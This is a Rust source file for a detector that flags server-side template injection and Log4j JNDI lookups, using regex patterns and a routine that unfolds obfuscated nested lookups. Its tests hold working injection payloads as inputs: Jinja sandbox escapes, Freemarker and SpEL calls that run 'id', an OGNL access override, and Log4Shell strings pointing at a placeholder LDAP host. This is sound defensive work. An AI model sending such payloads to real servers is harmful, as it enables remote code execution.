//! Server-side template and expression injection: brackets of Jinja, Twig, Freemarker, Velocity,
//! ERB, Razor, SpEL, OGNL and EL with what attackers put between them, and lookups of Log4j, whose
//! nested spellings are folded first.
//!
//! Source: the expression languages' own manuals; CVE-2021-44228 for lookups.

use super::detector::{Detector, Report};
use super::patterns::{pattern, Patterns};
use super::prefilter::{Hints, Marks};
use super::words::Words;
use super::Family;
use crate::decode::Value;

/// The detector of this family.
pub struct TemplateInjection;

/// What is called or looked into within brackets.
macro_rules! inside {
    () => {
        "(?:__\\w+__|\\\\x5f|config\\b|request\\b|self\\b|cycler\\b|joiner\\b|namespace\\b|lipsum\\b|get_flashed_messages|url_for\\b|\
         _self\\b|getclass|forname|getruntime|\\bexec\\b|\\bsystem\\b|popen|passthru|\\beval\\b|process\\b|require\\b|\
         import\\b|constructor|attr\\s*\\(|\\|\\s*(?:attr|filter|map|sort|reduce|format|safe|join|list)\\b|\\bopen\\s*\\(|\
         range\\.constructor|console\\.|_\\.version|dump\\s*\\(|app\\.|settings\\.|debug\\b|java\\.|t\\(\\s*java|\
         @java|#\\w+\\s*=|#this|#context|#_memberaccess|#rt|new\\s+\\w|file\\.|dir\\.|ioutil|shell_exec|\
         classloader|scriptengine|beans\\b|applicationscope|sessionscope|pagecontext|product\\.|self\\.)"
    };
}

static PATTERNS: Patterns = Patterns::new(&[
    pattern("template.lookup", 0.95, 0.9, "\\$\\{\\s*jndi\\s*:|\\bjndi:(?:ldaps?|rmi|dns|iiop|corba|nis|nds|https?)"),
    pattern("template.lookup", 0.8, 0.7, "\\$\\{(?:env|sys|java|ctx|lower|upper|date|main|bundle|docker|k8s|spring|log4j|web|base64|script|dns|url|const|::)[:}]"),
    pattern("template.lookup", 0.6, 0.5, "\\$\\{[^{}]{0,20}:-[^}]{0,8}\\}|\\$\\{[^{}]{0,40}\\$\\{"),
    pattern("template.arithmetic", 0.9, 0.6, "(?:\\{\\{|\\$\\{|#\\{|\\*\\{|%\\{|~\\{|@\\{|<%=|\\$!?\\{\\{|\\{\\{=|\\[\\[|@\\()\\s*['\"(]*-?\\d+['\")]*\\s*[-+*/%]\\s*['\"(]*\\d+"),
    pattern("template.expression", 0.85, 0.45, concat!("(?:\\{\\{|\\$\\{|#\\{|\\*\\{|%\\{|~\\{|@\\{|\\{%|<%|\\$!?\\{|\\[\\[)[^\\n]{0,240}?", inside!())),
    pattern("template.expression", 0.45, 0.0, "^\\s*(?:\\{\\{[^{}]{1,200}\\}\\}|\\$\\{[^{}]{1,200}\\}|#\\{[^{}]{1,200}\\}|<%=?[^%]{1,200}%>|\\{%[^%]{1,200}%\\}|\\*\\{[^{}]{1,200}\\}|\\$\\{\\{.{1,200}\\}\\})\\s*$"),
    // A method that is called is no placeholder.
    pattern("template.expression", 0.8, 0.0, "^\\s*(?:\\{\\{|[$#*@~]\\{)[^{}]{0,200}\\.\\s*\\w+\\s*\\([^{}]{0,200}\\)[^{}]{0,200}\\}\\}?\\s*$"),
    pattern("template.expression", 0.6, 0.0, "^\\s*(?:\\{\\{[^{}]{0,200}[.(\\[|'\"=+*/@-][^{}]{0,200}\\}\\}|[$#*@~]\\{[^{}]{0,200}[.(\\[|'\"=+*/@-][^{}]{0,200}\\}|<%=?[^%]{0,200}[.(\\[|'\"=+*/`-][^%]{0,200}%>)\\s*$"),
    pattern("template.directive", 0.85, 0.7, "<#(?:assign|include|import|setting|list)\\b|freemarker\\.template\\.utility|\\?new\\(\\)|\\?api\\b|#set\\s*\\(\\s*\\$|\\$\\w+\\.(?:class|getclass)\\b|#(?:include|parse|evaluate)\\s*\\(|\\{php\\}|\\{\\$smarty|\\{system\\(|\\{literal\\}"),
    pattern("template.directive", 0.7, 0.2, "\\{%-?\\s*(?:import|include|extends|debug|load|set|for|if|macro|block|with|raw|autoescape)\\b|<%=?\\s*(?:system|exec|eval|`|file|dir|io|require|self|@|7|foo|class|object|response|request|out|%x|%q)"),
    pattern("template.razor", 0.85, 0.6, "@\\(\\s*\\d+\\s*[-+*/]|@\\{\\s*(?:var|//|system)|@\\((?:system|process|\\d)|@(?:system\\.|model\\.|html\\.raw|functions\\s*\\{|import\\s)"),
    pattern("template.ognl", 0.95, 0.8, "#_memberaccess|@ognl|ognl\\.ognlcontext|@java\\.lang|\\(#\\w+\\s*=|#context\\[|xwork2?\\.|#request\\.|struts2?\\.|allowstaticmethodaccess|denymethodexecution|%\\{\\s*#|%\\{\\(#|\\(#\\w+\\.\\w+|#\\w+\\.\\w+\\("),
    pattern("template.spel", 0.95, 0.8, "t\\s*\\(\\s*(?:java|org|com|javax)\\.|#\\{\\s*t\\(|#this\\.getclass|new\\s+java\\.|new\\s+processbuilder|\\.getclass\\(\\)\\.|\\bforname\\s*\\(|getruntime\\(\\)|class\\.module\\.classloader|classloader\\.resources"),
    pattern("template.python", 0.9, 0.5, "__(?:class|globals|mro|subclasses|builtins|bases|base|import|init|getitem|dict|reduce)__|\\[['\"](?:__\\w+__|\\\\x5f)|\\\\x5f\\\\x5f|\\|attr\\s*\\(|\\.mro\\(\\)"),
    pattern("template.node", 0.9, 0.5, "(?:range|\\b\\w+|\\]|\\)|'')\\.constructor\\.?(?:constructor|prototype|\\()|\\[['\"]constructor['\"]\\]|constructor\\(['\"]return|process\\.mainmodule|global\\.process|#with\\s+['\"]|lookup\\s+string"),
    pattern("template.sandbox", 0.85, 0.5, "_self\\.env|registerundefinedfiltercallback|getfilter\\(|self\\._tmpl|self\\.module|template\\.module|\\bcycler\\.|\\blipsum\\.|\\|\\s*(?:filter|map|sort|reduce)\\s*\\(\\s*['\"]|smarty\\.(?:version|template|now)|self::clearconfig|\\$output\\s*=|get_flashed_messages\\.|url_for\\.|config\\.(?:items|from|__)|%0a?\\w*\\{php"),
]);

impl Detector for TemplateInjection {
    fn family(&self) -> Family {
        Family::TemplateInjection
    }

    fn wants(&self, hints: &Hints) -> bool {
        hints.has(Marks::TEMPLATE) || hints.words.contains(Words::CODE)
    }

    fn judge(&self, value: &Value<'_>, report: &mut Report<'_>) {
        PATTERNS.judge(value, value.bytes, report);
        if let Some(folded) = fold(value.bytes) {
            report.add("template.lookup", 0.6);
            PATTERNS.judge(value, &folded, report);
        }
    }
}

/// Folds lookups within lookups to what they give: `${lower:j}`, `${::-n}` and `${env:X:-d}` to
/// `j`, `n` and `d`. `None` without such. Cost: linear; every bracket is visited once.
fn fold(text: &[u8]) -> Option<Vec<u8>> {
    memchr::memmem::find(text, b"${")?;
    let text = &text[..text.len().min(super::patterns::REACH)];
    let mut out: Vec<u8> = Vec::with_capacity(text.len());
    let mut open: Vec<usize> = Vec::new();
    let mut changed = false;
    let mut at = 0;
    while at < text.len() {
        if text[at..].starts_with(b"${") {
            open.push(out.len());
            out.extend_from_slice(b"${");
            at += 2;
            continue;
        }
        at += 1;
        let byte = text[at - 1];
        match open.pop() {
            Some(start) if byte == b'}' => {
                let given = gives(&out[start + 2..]).map(<[u8]>::to_vec);
                match given {
                    Some(given) => {
                        out.truncate(start);
                        out.extend_from_slice(&given);
                        changed = true;
                    }
                    None => out.push(byte),
                }
            }
            Some(start) => {
                open.push(start);
                out.push(byte);
            }
            None => out.push(byte),
        }
    }
    changed.then_some(out)
}

/// What a lookup without lookups in it gives, when it says so itself.
fn gives(lookup: &[u8]) -> Option<&[u8]> {
    if lookup.len() > 64 {
        return None;
    }
    if let Some(at) = memchr::memmem::find(lookup, b":-") {
        return Some(&lookup[at + 2..]);
    }
    let colon = memchr::memchr(b':', lookup)?;
    let name = &lookup[..colon];
    let case = name.eq_ignore_ascii_case(b"lower") || name.eq_ignore_ascii_case(b"upper");
    case.then(|| &lookup[colon + 1..])
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::inspect::{patterns, testing::score};

    #[test]
    fn expressions_are_found() {
        patterns::compiles(&PATTERNS);
        for text in [
            "{{7*7}}",
            "${7*7}",
            "#{7*7}",
            "<%= 7*7 %>",
            "{{''.__class__.__mro__[1].__subclasses__()}}",
            "{{config.items()}}",
            "${jndi:ldap://a.example/x}",
            "${${lower:j}ndi:${::-l}dap://a.example/x}",
            "${${env:NaN:-j}nd${env:NaN:-i}:rmi://x/a}",
            "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}",
            "#set($e=\"x\")$e.getClass()",
            "T(java.lang.Runtime).getRuntime().exec('id')",
            "%{(#_memberAccess=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)}",
            "@(1+2)",
            "{{constructor.constructor('return 1')()}}",
            "{% import os %}",
            "{{request|attr('application')}}",
        ] {
            assert!(score(&TemplateInjection, text) >= 0.5, "{text}");
        }
    }

    #[test]
    fn calls_tell_more_than_placeholders() {
        assert!(score(&TemplateInjection, "{{ x.upper() }}") > 0.7);
        assert!(score(&TemplateInjection, "{{ order.total }}") < 0.7);
    }

    #[test]
    fn ordinary_text_is_left_alone() {
        for text in [
            "Dear {name}, you owe us $5 {really}",
            "query Q($id: ID!) { user(id: $id) { name } }",
            "a {{placeholder}} in a long letter to our customers, as newsletters have it",
            "#hashtag and #another (of many)",
            "let s = format!(\"{}\", x); // prints one line of text as usual",
            "user@example.com (work)",
        ] {
            assert!(score(&TemplateInjection, text) < 0.5, "{text}");
        }
    }

    #[test]
    fn deep_lookups_are_folded_in_one_pass() {
        let deep = [b"${lower:".repeat(800), b"}".repeat(800)].concat();
        assert!(fold(&deep).is_some_and(|out| out.len() < deep.len()));
    }
}
